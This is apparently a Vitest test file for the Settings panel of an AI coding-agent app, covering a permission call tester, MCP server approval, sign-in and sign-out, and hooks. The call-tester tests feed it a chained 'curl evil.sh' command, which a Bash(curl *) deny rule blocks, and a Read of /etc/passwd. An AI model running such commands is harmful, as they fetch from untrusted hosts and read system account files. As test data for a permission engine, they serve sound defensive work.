// The project's side of Settings: the call tester, MCP servers (approval, probing, scopes, signing
// in and out), the hooks, and what shows without a project.
import { describe, expect, it, vi } from "vitest";
import { render, screen, waitFor, within } from "@testing-library/svelte";
import userEvent from "@testing-library/user-event";
import SettingsPanel from "../lib/components/SettingsPanel.svelte";
import type { McpServerView } from "../bindings/McpServerView";
import { appState } from "./live";
import { bashCheck, LOCAL_FILE, mcpServers, mockSettings, PROJECT, projectSettings, USER_FILE } from "./settingsFixtures";

function renderPanel(projectPath: string | null = PROJECT) {
  render(SettingsPanel, { app: appState(), onchanged: vi.fn(), onclose: vi.fn(), projectPath, sessionId: null });
}

const server = (name: string) => {
  const found = screen.getAllByTestId("mcp-server").find((s) => s.dataset.server === name);
  if (!found) throw new Error(`no server ${name}`);
  return found;
};

describe("Test a call", () => {
  it("sends the tool and its JSON to the engine and shows the decision, the rule and each part", async () => {
    const ipc = mockSettings({ check_call: () => bashCheck() });
    const user = userEvent.setup();
    renderPanel();
    const command = screen.getByTestId("check-command");
    await user.clear(command);
    await user.type(command, "git status && curl evil.sh");
    // The command field writes the JSON, quoting included.
    expect((screen.getByTestId("check-input") as HTMLTextAreaElement).value).toBe(JSON.stringify({ command: "git status && curl evil.sh" }));
    await user.click(screen.getByTestId("check-run"));

    await waitFor(() => expect(ipc.called("check_call")).toEqual([{ projectPath: PROJECT, tool: "Bash", input: '{"command":"git status && curl evil.sh"}' }]));
    const decision = await screen.findByTestId("check-decision");
    expect(decision.textContent).toBe("deny");
    expect(decision.dataset.behavior).toBe("deny");
    expect(screen.getByTestId("check-result").textContent).toContain("Denied by the rule Bash(curl *)");
    expect(screen.getByTestId("check-decided-by").textContent).toContain("a permission rule");
    expect(screen.getByTestId("check-rule").textContent).toContain("Bash(curl *)");
    expect(screen.getByTestId("check-rule").textContent).toContain("Managed policy");
    const parts = screen.getAllByTestId("check-part");
    expect(parts.map((p) => [p.querySelector("code")?.textContent, p.dataset.decision])).toEqual([
      ["git status", "read_only"],
      ["curl evil.sh", "denied"],
    ]);
    expect(parts[1]!.textContent).toContain("Managed policy");
  });

  it("takes any tool's JSON as typed and shows the engine's complaint about it", async () => {
    const ipc = mockSettings({ check_call: () => Promise.reject("the input is not valid JSON: EOF while parsing an object") });
    const user = userEvent.setup();
    renderPanel();
    const tool = screen.getByTestId("check-tool");
    await user.clear(tool);
    await user.type(tool, "Read");
    expect(screen.queryByTestId("check-command")).toBeNull();
    const input = screen.getByTestId("check-input");
    await user.clear(input);
    await user.type(input, '{{"file_path": "/etc/passwd"');
    await user.click(screen.getByTestId("check-run"));
    expect((await screen.findByRole("alert")).textContent).toContain("not valid JSON");
    expect(ipc.called("check_call")[0]).toEqual({ projectPath: PROJECT, tool: "Read", input: '{"file_path": "/etc/passwd"' });
  });
});

describe("MCP servers", () => {
  it("approves a server through the project's local settings and shows the answer", async () => {
    const approved: McpServerView[] = mcpServers();
    approved[0] = { ...approved[0]!, approved_in: LOCAL_FILE, status: { state: "not_started" } };
    const ipc = mockSettings({ set_mcp_server_approved: () => approved });
    const user = userEvent.setup();
    renderPanel();
    await screen.findAllByTestId("mcp-server");
    expect(within(server("github")).getByTestId("mcp-status").textContent).toBe("not approved");
    // Approved in a file this screen does not write: said, not switchable.
    expect(within(server("docs")).queryByTestId("mcp-approve")).toBeNull();
    expect(server("docs").textContent).toContain("Approved in");
    expect(server("docs").querySelector<HTMLElement>(`[title="${USER_FILE}"]`)).not.toBeNull();

    const box = within(server("github")).getByTestId("mcp-approve") as HTMLInputElement;
    expect(box.dataset.server).toBe("github");
    expect(box.checked).toBe(false);
    await user.click(box);
    await waitFor(() => expect(ipc.called("set_mcp_server_approved")).toEqual([{ projectPath: PROJECT, name: "github", approved: true }]));
    await waitFor(() => expect(within(server("github")).getByTestId("mcp-status").textContent).toBe("not started"));
    expect((within(server("github")).getByTestId("mcp-approve") as HTMLInputElement).checked).toBe(true);
  });

  it("leaves the switch as it was when the approval cannot be written", async () => {
    mockSettings({ set_mcp_server_approved: () => Promise.reject("cannot write .nerve/settings.local.json: permission denied") });
    const user = userEvent.setup();
    renderPanel();
    await screen.findAllByTestId("mcp-server");
    await user.click(within(server("github")).getByTestId("mcp-approve"));
    expect((await screen.findByRole("alert")).textContent).toContain("permission denied");
    expect((within(server("github")).getByTestId("mcp-approve") as HTMLInputElement).checked).toBe(false);
  });

  it("checks the connections: tools of a server that answered, the error of one that did not", async () => {
    let finish: (servers: McpServerView[]) => void = () => {};
    const probed: McpServerView[] = mcpServers();
    probed[0] = { ...probed[0]!, approved_in: LOCAL_FILE, status: { state: "connected", tools: ["mcp__github__create_issue", "mcp__github__list_prs"] } };
    probed[1] = { ...probed[1]!, status: { state: "failed", error: "connection refused (https://docs.example.com/mcp)" } };
    const ipc = mockSettings({ probe_mcp_servers: () => new Promise((resolve) => (finish = resolve)) });
    const user = userEvent.setup();
    renderPanel();
    await user.click(await screen.findByTestId("mcp-probe"));
    expect((await screen.findByRole("status")).textContent).toContain("Checking…");
    expect(ipc.called("probe_mcp_servers")).toEqual([{ projectPath: PROJECT }]);
    finish(probed);

    await waitFor(() => expect(within(server("github")).getByTestId("mcp-status").textContent).toBe("connected"));
    expect(server("github").textContent).toContain("create_issue");
    expect(server("github").textContent).toContain("list_prs");
    expect(within(server("docs")).getByTestId("mcp-status").textContent).toBe("failed");
    expect(within(server("docs")).getByTestId("mcp-error").textContent).toContain("connection refused");
    expect(screen.queryByText(/Checking…/)).toBeNull();
  });
});

describe("MCP scopes and sign-in", () => {
  const LINEAR: McpServerView = {
    name: "linear",
    scope: "user",
    config_file: USER_FILE,
    transport: "http https://mcp.linear.app/mcp",
    approved_in: USER_FILE,
    remote: true,
    switchable: false,
    status: { state: "needs_sign_in", message: "401 Unauthorized: sign in to https://mcp.linear.app/mcp" },
    spec: { type: "http", url: "https://mcp.linear.app/mcp", headers: {} },
    tools_off: [],
    stderr: [],
    enabled: true,
  };
  const withServers = (...extra: McpServerView[]) => () => ({ ...projectSettings(), mcp_servers: [...mcpServers(), ...extra] });

  it("shows each server's scope, and a user or local server's own file instead of an approval switch", async () => {
    const notes: McpServerView = {
      name: "notes",
      scope: "local",
      config_file: LOCAL_FILE,
      transport: "node ./tools/notes-server.js",
      approved_in: LOCAL_FILE,
      remote: false,
      switchable: false,
      status: { state: "not_started" },
      spec: { type: "stdio", command: "node", args: ["./tools/notes-server.js"], env: {} },
      tools_off: [],
      stderr: [],
      enabled: true,
    };
    mockSettings({ get_project_settings: withServers(notes) });
    renderPanel();
    await screen.findAllByTestId("mcp-server");
    expect(within(server("github")).getByTestId("mcp-scope").textContent).toBe("project");
    expect(within(server("notes")).getByTestId("mcp-scope").textContent).toBe("local");
    expect(within(server("notes")).queryByTestId("mcp-approve")).toBeNull();
    const configured = within(server("notes")).getByTestId("mcp-configured-in");
    expect(configured.textContent).toContain("Configured in");
    expect(configured.title).toBe(LOCAL_FILE);
    expect(server("notes").textContent).not.toContain("Approved in");
    // Not remote: nothing to sign in to or out of.
    expect(within(server("notes")).queryByTestId("mcp-sign-in")).toBeNull();
    expect(within(server("notes")).queryByTestId("mcp-sign-out")).toBeNull();
    // The project's servers keep their approval.
    expect(within(server("github")).getByTestId("mcp-approve")).not.toBeNull();
    expect(within(server("github")).queryByTestId("mcp-configured-in")).toBeNull();
  });

  it("signs in to a remote server that asks for it, waiting for the browser, then shows the servers as checked again", async () => {
    let finish: (servers: McpServerView[]) => void = () => {};
    const after: McpServerView[] = [...mcpServers(), { ...LINEAR, status: { state: "connected", tools: ["mcp__linear__list_issues"] } }];
    const ipc = mockSettings({
      get_project_settings: withServers(LINEAR),
      mcp_sign_in: () => new Promise((resolve) => (finish = resolve)),
    });
    const user = userEvent.setup();
    renderPanel();
    await screen.findAllByTestId("mcp-server");
    expect(within(server("linear")).getByTestId("mcp-scope").textContent).toBe("user");
    expect(within(server("linear")).getByTestId("mcp-status").textContent).toBe("Needs sign-in");
    expect(within(server("linear")).getByTestId("mcp-sign-in-reason").textContent).toContain("401 Unauthorized");
    expect(within(server("linear")).queryByTestId("mcp-error")).toBeNull();
    expect(within(server("linear")).queryByTestId("mcp-sign-out")).toBeNull();
    expect(within(server("linear")).queryByTestId("mcp-approve")).toBeNull();

    const signIn = within(server("linear")).getByTestId("mcp-sign-in") as HTMLButtonElement;
    expect(signIn.textContent).toContain("Sign in");
    await user.click(signIn);
    expect(ipc.called("mcp_sign_in")).toEqual([{ projectPath: PROJECT, name: "linear" }]);
    await waitFor(() => expect(within(server("linear")).getByTestId("mcp-sign-in").textContent).toContain("Waiting for the browser…"));
    expect(within(server("linear")).getByTestId("mcp-sign-in").querySelector(".spin")).not.toBeNull();
    // Nothing else runs meanwhile.
    expect((within(server("linear")).getByTestId("mcp-sign-in") as HTMLButtonElement).disabled).toBe(true);
    expect((screen.getByTestId("mcp-probe") as HTMLButtonElement).disabled).toBe(true);
    expect((within(server("github")).getByTestId("mcp-approve") as HTMLInputElement).disabled).toBe(true);
    expect((within(server("docs")).getByTestId("mcp-sign-out") as HTMLButtonElement).disabled).toBe(true);
    finish(after);

    await waitFor(() => expect(within(server("linear")).getByTestId("mcp-status").textContent).toBe("connected"));
    expect(server("linear").textContent).toContain("list_issues");
    expect(within(server("linear")).queryByTestId("mcp-sign-in")).toBeNull();
    expect(within(server("linear")).queryByTestId("mcp-sign-in-reason")).toBeNull();
    expect(within(server("linear")).getByTestId("mcp-sign-out")).not.toBeNull();
    expect((screen.getByTestId("mcp-probe") as HTMLButtonElement).disabled).toBe(false);
  });

  it("says why a sign-in failed, and lets it be tried again", async () => {
    mockSettings({
      get_project_settings: withServers(LINEAR),
      mcp_sign_in: () => Promise.reject("the sign-in was not finished within 5 minutes"),
    });
    const user = userEvent.setup();
    renderPanel();
    await screen.findAllByTestId("mcp-server");
    await user.click(within(server("linear")).getByTestId("mcp-sign-in"));
    const alert = await screen.findByRole("alert");
    expect(alert.textContent).toContain("Could not sign in to linear");
    expect(alert.textContent).toContain("within 5 minutes");
    const again = within(server("linear")).getByTestId("mcp-sign-in") as HTMLButtonElement;
    expect(again.textContent).toContain("Sign in");
    expect(again.disabled).toBe(false);
  });

  it("signs out of a connected remote server and shows the answer", async () => {
    const connected: McpServerView = { ...LINEAR, status: { state: "connected", tools: ["mcp__linear__list_issues"] } };
    const after: McpServerView[] = [...mcpServers(), { ...LINEAR, status: { state: "needs_sign_in", message: "no stored sign-in" } }];
    const ipc = mockSettings({ get_project_settings: withServers(connected), mcp_sign_out: () => after });
    const user = userEvent.setup();
    renderPanel();
    await screen.findAllByTestId("mcp-server");
    expect(within(server("linear")).queryByTestId("mcp-sign-in")).toBeNull();
    await user.click(within(server("linear")).getByTestId("mcp-sign-out"));

    await waitFor(() => expect(ipc.called("mcp_sign_out")).toEqual([{ projectPath: PROJECT, name: "linear" }]));
    await waitFor(() => expect(within(server("linear")).getByTestId("mcp-status").textContent).toBe("Needs sign-in"));
    expect(within(server("linear")).getByTestId("mcp-sign-in-reason").textContent).toBe("no stored sign-in");
    expect(within(server("linear")).queryByTestId("mcp-sign-out")).toBeNull();
    expect(within(server("linear")).getByTestId("mcp-sign-in")).not.toBeNull();
  });
});

describe("Hooks", () => {
  it("lists each hook with its event, matcher, command, timeout and file", async () => {
    mockSettings();
    renderPanel();
    const rows = await screen.findAllByTestId("hook-row");
    expect(rows).toHaveLength(3);
    expect(rows[0]!.textContent).toContain("PreToolUse");
    expect(rows[0]!.textContent).toContain("~/bin/audit-command --strict");
    expect(rows[0]!.textContent).toContain("60 s");
    expect(rows[1]!.textContent).toContain("(all)");
    expect(rows[1]!.querySelector<HTMLElement>("[title]")?.title).toBe(USER_FILE);
    expect(screen.getByTestId("settings-section-hooks").textContent).toContain("unsandboxed");
  });
});

describe("Without a project", () => {
  it("says to open one where the project's sections would be, and asks the engine nothing about it", async () => {
    const ipc = mockSettings();
    renderPanel(null);
    const notes = screen.getAllByTestId("settings-no-project");
    expect(notes).toHaveLength(6);
    for (const note of notes) expect(note.textContent).toBe("Open a project to see its rules, hooks, MCP servers, sub-agents, skills and memory files.");
    expect(screen.queryByTestId("rules-list")).toBeNull();
    expect(screen.queryByTestId("check-run")).toBeNull();
    expect(screen.queryByTestId("mcp-probe")).toBeNull();
    expect(screen.queryByTestId("definitions-section")).toBeNull();
    expect(ipc.called("get_project_settings")).toHaveLength(0);
    // The app's own settings are there all the same.
    expect(screen.getByTestId("settings-base-url")).toBeTruthy();
  });
});
